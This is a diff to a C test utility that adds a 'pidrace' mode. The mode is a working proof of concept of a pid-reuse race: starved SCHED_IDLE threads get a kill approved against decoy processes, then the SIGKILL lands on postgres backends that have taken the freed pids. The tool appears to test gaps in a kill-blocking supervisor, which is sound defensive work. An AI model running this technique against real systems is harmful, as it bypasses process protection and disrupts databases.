@@ -24,11 +24,24 @@
  *   r1 ptrace PID SIG
  *        PTRACE_ATTACH, wait for the stop, PTRACE_CONT injecting SIG: no
  *        kill-family call at all (known gap, issue 12).
+ *   r1 pidrace SOCKET K [ROUNDS]
+ *        The documented "pid race" with the window stretched at will.  K
+ *        decoy children (not servers) hold a run of pids; K SCHED_IDLE
+ *        threads each call kill(decoy, SIGKILL): the supervisor sees a decoy,
+ *        answers CONTINUE, and the thread then starves behind CPU hogs.  The
+ *        pid counter is cycled (pid_max is small) to just below the decoys,
+ *        the decoys exit, K connections to SOCKET make the postmaster fork
+ *        backends into the freed pids, the hogs stop, and the starved
+ *        kill()s land on backends.  Prints how many kills hit a postgres.
  *   r1 rawkill PID SIG
  *        kill(PID, SIG) by raw system call; prints "kill: ERRNO".
  */
 #define _GNU_SOURCE
 #include <dirent.h>
+#include <stdbool.h>
+#include <sched.h>
+#include <sys/socket.h>
+#include <sys/un.h>
 #include <errno.h>
 #include <pthread.h>
 #include <signal.h>
@@ -117,6 +130,244 @@ static void show_limits(void)
 	fclose(f);
 }
 
+/* ---- pidrace ---- */
+
+#define MAXK 64
+static atomic_int go_kill, hog_run, hog_quit;
+static pid_t decoy[MAXK];
+static pid_t killer_tid[MAXK];
+static volatile long kill_ret[MAXK] = {[0 ... MAXK - 1] = 1};
+
+static int starve_cpu;	/* killers and hogs share this CPU; the rest runs elsewhere */
+
+static void pin_here(void)
+{
+	cpu_set_t set;
+
+	CPU_ZERO(&set);
+	CPU_SET(starve_cpu, &set);
+	sched_setaffinity(0, sizeof(set), &set);	/* this thread */
+}
+
+static void *hog(void *unused)
+{
+	(void)unused;
+	pin_here();
+	while (!atomic_load(&hog_quit))
+		if (atomic_load(&hog_run))
+			for (volatile int i = 0; i < 1000; i++)
+				;
+		else
+			usleep(1000);
+	return NULL;
+}
+
+static void *killer(void *p)
+{
+	long i = (long)p;
+	struct sched_param sp = {0};
+
+	killer_tid[i] = (pid_t)syscall(SYS_gettid);
+	pin_here();
+	while (!atomic_load(&go_kill))
+		usleep(1000);
+	/* still on the CPU: enter kill() at once, but wake from it starving */
+	sched_setscheduler(0, SCHED_IDLE, &sp);	/* this thread only */
+	kill_ret[i] = raw_kill(decoy[i], SIGKILL);
+	return NULL;
+}
+
+/* 'S' blocked (waiting for the supervisor), 'R' decided and starving, ... */
+static __attribute__((unused)) char thread_state(pid_t tid, long *nr)
+{
+	char path[96], buf[512];
+	FILE *f;
+	char st = '?';
+
+	snprintf(path, sizeof(path), "/proc/self/task/%d/stat", (int)tid);
+	if ((f = fopen(path, "r"))) {
+		if (fgets(buf, sizeof(buf), f)) {
+			char *c = strrchr(buf, ')');
+			if (c && c[1])
+				st = c[2];
+		}
+		fclose(f);
+	}
+	snprintf(path, sizeof(path), "/proc/self/task/%d/syscall", (int)tid);
+	*nr = -2;
+	if ((f = fopen(path, "r"))) {
+		if (fscanf(f, "%ld", nr) != 1)
+			*nr = -2;
+		fclose(f);
+	}
+	return st;
+}
+
+static long last_pid(void)
+{
+	long v = -1;
+	FILE *f = fopen("/proc/sys/kernel/ns_last_pid", "r");
+	if (f) {
+		if (fscanf(f, "%ld", &v) != 1)
+			v = -1;
+		fclose(f);
+	}
+	return v;
+}
+
+static bool pid_exists(long p)
+{
+	char path[64];
+	snprintf(path, sizeof(path), "/proc/%ld", p);
+	return access(path, F_OK) == 0;
+}
+
+/* fork and reap until the last pid handed out lies in [lo, hi) */
+static void cycle_to(long lo, long hi)
+{
+	if (lo < 301)
+		lo = 301;	/* pids wrap to 300 */
+	if (hi <= lo)
+		return;
+	for (long n = 0; n < 100000; n++) {
+		long cur = last_pid();
+		if (cur >= lo && cur < hi)
+			return;
+		pid_t c = fork();
+		if (c == 0)
+			_exit(0);
+		waitpid(c, NULL, 0);
+	}
+}
+
+/* occupy every free pid between the counter and below with a filler */
+static void fill_below(long below, int keep_rd, int keep_wr, int other_wr)
+{
+	for (int f = 0; f < 400; f++) {
+		long cur = last_pid(), p;
+		for (p = cur + 1; p < below && pid_exists(p); p++)
+			;
+		if (p >= below || cur >= below)
+			return;
+		if (fork() == 0) {	/* a filler: lives until we exit */
+			char b;
+			close(other_wr);
+			close(keep_wr);
+			(void)!read(keep_rd, &b, 1);
+			_exit(0);
+		}
+	}
+}
+
+/* A postgres process that is a child of a postgres process now holds pid? */
+static bool held_by_backend(pid_t pid)
+{
+	char path[64], buf[512];
+	FILE *f;
+	bool yes = false;
+
+	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
+	if ((f = fopen(path, "r"))) {
+		yes = fgets(buf, sizeof(buf), f) && strstr(buf, "(postgres)");
+		fclose(f);
+	}
+	return yes;
+}
+
+/* One round; returns the number of starved kills whose pid a backend took. */
+static int pidrace_round(const char *sockpath, int k)
+{
+	int pfd[2], keep[2], socks[MAXK], pending = 0, reused = 0, both = 0;
+	pthread_t ks[MAXK];
+
+	atomic_store(&go_kill, 0);
+	for (int i = 0; i < k; i++)
+		kill_ret[i] = 1;
+	/* every thread first: later clones would take pids past the decoys */
+	for (long i = 0; i < k; i++)
+		pthread_create(&ks[i], NULL, killer, (void *)i);
+	if (pipe(pfd) < 0 || pipe(keep) < 0)
+		return 0;
+	for (int i = 0; i < k; i++) {
+		pid_t c = fork();
+		if (c == 0) {
+			char b;
+			close(pfd[1]);
+			(void)!read(pfd[0], &b, 1);
+			_exit(0);
+		}
+		decoy[i] = c;
+	}
+	cycle_to(decoy[0] - 3000, decoy[0] - 1500);	/* most of the way first */
+	atomic_store(&go_kill, 1);
+	usleep(300000);	/* the supervisor answers CONTINUE; the killers starve */
+	cycle_to(decoy[0] - 200, decoy[0]);	/* the rest now */
+	fill_below(decoy[0], keep[0], keep[1], pfd[1]);
+	long before = last_pid();
+	close(pfd[1]);	/* decoys exit */
+	for (int i = 0; i < k; i++)
+		waitpid(decoy[i], NULL, 0);
+	for (int i = 0; i < k; i++) {
+		struct sockaddr_un sa = {.sun_family = AF_UNIX};
+		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sockpath);
+		socks[i] = socket(AF_UNIX, SOCK_STREAM, 0);
+		if (connect(socks[i], (struct sockaddr *)&sa, sizeof(sa)) < 0)
+			perror("connect");
+	}
+	usleep(100000);	/* the postmaster forks */
+	for (int i = 0; i < k; i++) {
+		bool p = kill_ret[i] == 1, r = held_by_backend(decoy[i]);
+		pending += p;
+		reused += r;
+		both += p && r;
+	}
+	printf("round: decoys %d..%d, counter %ld, pending %d, pids reused by postgres %d, "
+	       "both %d\n", (int)decoy[0], (int)decoy[k - 1], before, pending, reused, both);
+	atomic_store(&hog_run, 0);	/* the starved kills land now */
+	for (int i = 0; i < k; i++)
+		pthread_join(ks[i], NULL);
+	atomic_store(&hog_run, 1);
+	for (int i = 0; i < k; i++)
+		close(socks[i]);
+	close(keep[1]);
+	close(keep[0]);
+	close(pfd[0]);
+	while (waitpid(-1, NULL, WNOHANG) > 0)
+		;
+	return both;
+}
+
+static int pidrace(const char *sockpath, int k, int rounds)
+{
+	pthread_t hogs[32];
+	int nhogs = 32, total = 0;
+
+	if (k > MAXK)
+		k = MAXK;
+	starve_cpu = (int)sysconf(_SC_NPROCESSORS_ONLN) - 1;
+	{	/* the main thread (and what it forks) keeps off the starved CPU */
+		cpu_set_t set;
+		CPU_ZERO(&set);
+		for (int c = 0; c < starve_cpu; c++)
+			CPU_SET(c, &set);
+		if (starve_cpu > 0)
+			sched_setaffinity(0, sizeof(set), &set);
+	}
+	atomic_store(&hog_run, 1);
+	for (int i = 0; i < nhogs; i++)
+		pthread_create(&hogs[i], NULL, hog, NULL);
+	for (int r = 0; r < rounds && !total; r++) {
+		total += pidrace_round(sockpath, k);
+		while (waitpid(-1, NULL, WNOHANG) > 0)
+			;
+	}
+	atomic_store(&hog_quit, 1);
+	for (int i = 0; i < nhogs; i++)
+		pthread_join(hogs[i], NULL);
+	printf("pidrace: %d starved kill(s) reached a postgres process\n", total);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IONBF, 0);
@@ -124,6 +375,8 @@ int main(int argc, char **argv)
 		printf("kill: %s\n", en((int)-raw_kill(atol(argv[2]), atol(argv[3]))));
 		return 0;
 	}
+	if ((argc == 4 || argc == 5) && !strcmp(argv[1], "pidrace"))
+		return pidrace(argv[2], atoi(argv[3]), argc == 5 ? atoi(argv[4]) : 5);
 	if (argc == 4 && !strcmp(argv[1], "ptrace")) {
 		long pid = atol(argv[2]), r;
 		int st;
